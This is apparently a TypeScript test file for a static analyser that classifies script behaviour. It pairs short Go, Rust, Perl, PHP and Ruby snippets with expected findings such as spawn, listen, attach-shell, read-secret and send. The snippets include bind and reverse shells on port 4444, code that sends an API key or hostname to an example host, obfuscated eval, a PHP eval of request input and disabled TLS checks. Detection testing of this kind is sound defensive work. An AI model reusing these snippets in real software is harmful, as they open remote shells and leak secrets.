import { expect, test } from "vitest";
import type { Language } from "../../../src/model/language.ts";
import { readScript } from "../../../src/read/read-script.ts";
import { say } from "./say.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[Language, string, readonly string[]]>([
  [
    "go",
    'package main\nfunc main() { plugin.Open("/tmp/x.so") }',
    ["2:15 spawn program=/tmp/x.so arguments=[] shell=false"],
  ],
  [
    "go",
    'package main\nfunc main() { syscall.Exec("/bin/sh", []string{"sh", "-c", "id"}, nil) }',
    ["2:15 spawn program=sh arguments=[-c, id] shell=false", "2:15 evaluate language=shell code=id"],
  ],
  [
    "go",
    'package main\nfunc main() { l, _ := net.Listen("tcp", ":4444"); c, _ := l.Accept(); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Run() }',
    [
      "2:23 listen host=0.0.0.0 port=4444",
      "2:78 spawn program=/bin/sh arguments=[] shell=false",
      "2:103 attach-shell peer=0.0.0.0:4444 direction=bind",
    ],
  ],
  [
    "rust",
    'fn main() { let l = TcpListener::bind("0.0.0.0:4444").unwrap(); for s in l.incoming() { let f = s.unwrap().into_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) }).spawn(); } }',
    [
      "1:21 listen host=0.0.0.0 port=4444",
      "1:123 spawn program=/bin/sh arguments=[] shell=false",
      "1:123 attach-shell peer=0.0.0.0:4444 direction=bind",
    ],
  ],
  [
    "rust",
    'fn main() { let c = TcpStream::connect("192.0.2.7:4444").unwrap().try_clone().unwrap(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(c.as_raw_fd()) }).spawn(); }',
    [
      "1:21 connect peer=192.0.2.7:4444",
      "1:89 spawn program=/bin/sh arguments=[] shell=false",
      "1:89 attach-shell peer=192.0.2.7:4444 direction=reverse",
    ],
  ],
  [
    "rust",
    "fn main() { reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build(); }",
    ["1:13 disable-safeguard safeguard=tls-verification"],
  ],
  [
    "rust",
    'fn main() { libloading::Library::new("/tmp/x.so"); }',
    ["1:13 spawn program=/tmp/x.so arguments=[] shell=false"],
  ],
  [
    "rust",
    'fn main() { Command::new("sh").arg("-c").arg(concat!("i", "d")).env("A", "b").spawn(); }',
    ["1:13 spawn program=sh arguments=[-c, id] shell=false", "1:13 evaluate language=shell code=id"],
  ],
  [
    "perl",
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(4444, INADDR_ANY));",
    ["1:49 listen host=~□ port=4444"],
  ],
  ["perl", 'open(OUT, ">/tmp/x"); print OUT "id";', ["1:23 write-file path=/tmp/x content=id append=false"]],
  [
    "perl",
    'open(OUT, ">>/tmp/x"); print STDERR "x"; print OUT $x;',
    ["1:42 write-file path=/tmp/x content=~□ append=true"],
  ],
  ["perl", 'open(P, "|sh");', ["1:1 spawn program=sh arguments=[] shell=true"]],
  [
    "perl",
    'my $r = HTTP::Request->new("POST", "https://a.example/in", $h, $ENV{API_KEY}); LWP::UserAgent->new->request($r);',
    [
      "1:64 read-secret secret=environment:API_KEY",
      "1:80 send channel=http destination=https://a.example/in payload=[~□, ~□<environment:API_KEY>]",
    ],
  ],
  ["perl", 'getstore("https://a.example/x", "/tmp/x");', ["1:1 download url=https://a.example/x destination=/tmp/x"]],
  ["perl", 'eval pack("H*", "6964");', ["1:1 evaluate language=perl code=id{hex}"]],
  ["perl", 'eval pack("C*", 105, 100);', ["1:1 evaluate language=perl code=id{char-codes}"]],
  ["perl", 'eval unpack("u", "xx");', ["1:1 evaluate language=perl code=~□<decoded:unknown>"]],
  ["perl", "my $c = shift @ARGV; system($c);", ["1:22 spawn program=~□<input> arguments=[] shell=true"]],
  ["perl", 'eval chr(hex("0x69"));', ["1:1 evaluate language=perl code=i{char-codes}"]],
  ["perl", "thaw($x);", ["1:1 deserialize format=storable data=~□"]],
  ["perl", 'write_file("/tmp/x", "id");', ["1:1 write-file path=/tmp/x content=id append=false"]],
  ["php", '<?php call_user_func_array($_GET["f"], [$_GET["c"]]);', ["1:7 evaluate language=php code=~□<input>"]],
  ["php", '<?php eval(pack("H*", "6964"));', ["1:7 evaluate language=php code=id{hex}"]],
  [
    "php",
    '<?php pcntl_exec("/bin/sh", ["-c", "id"]);',
    ["1:7 spawn program=/bin/sh arguments=[-c, id] shell=false", "1:7 evaluate language=shell code=id"],
  ],
  ["php", '<?php stream_socket_server("tcp://0.0.0.0:4444");', ["1:7 listen host=0.0.0.0 port=4444"]],
  ["php", '<?php eval(implode(str_split("id")));', ["1:7 evaluate language=php code=id"]],
  ["php", '<?php eval(strtr("jd", "j", "i"));', ["1:7 evaluate language=php code=id"]],
  [
    "php",
    '<?php $c = new GuzzleHttp\\Client(); $c->get("https://a.example/x");',
    ["1:37 download url=https://a.example/x destination=null"],
  ],
  ["php", '<?php include __DIR__ . "/x.php";', ["1:7 evaluate language=php code=~□<file:□/x.php>", "1:7 run x.php"]],
  [
    "ruby",
    'system(RbConfig.ruby, "-e", "id")',
    ["1:1 spawn program=ruby arguments=[-e, id] shell=false", "1:1 evaluate language=ruby code=id"],
  ],
  [
    "ruby",
    'Net::HTTP.post(URI("https://a.example"), Etc.getlogin)',
    ["1:1 send channel=http destination=https://a.example payload=[~□<command:whoami>]"],
  ],
  ["ruby", 'eval "i".ord.chr', ["1:1 evaluate language=ruby code=i{char-codes}"]],
  ["ruby", 'system("a".upcase)', ["1:1 spawn program=A arguments=[] shell=true"]],
  ["ruby", 'system("id".chars.join)', ["1:1 spawn program=id arguments=[] shell=true"]],
  ["ruby", 'system("i".concat("d"))', ["1:1 spawn program=id arguments=[] shell=true"]],
  [
    "perl",
    'my @f = glob("/home/me/.ssh/*"); system($f[0]);',
    ["1:34 spawn program=~□<file:/home/me/.ssh/*> arguments=[] shell=true"],
  ],
  [
    "rust",
    'fn main() { let h = hostname::get().unwrap(); reqwest::blocking::Client::new().post("https://a.example").body(h).send(); }',
    ["1:47 send channel=http destination=https://a.example payload=[~□<command:hostname.get>]"],
  ],
])("%s: %s", (language, text, expected) => {
  expect(say(readScript, language, text).lines).toEqual(expected);
});
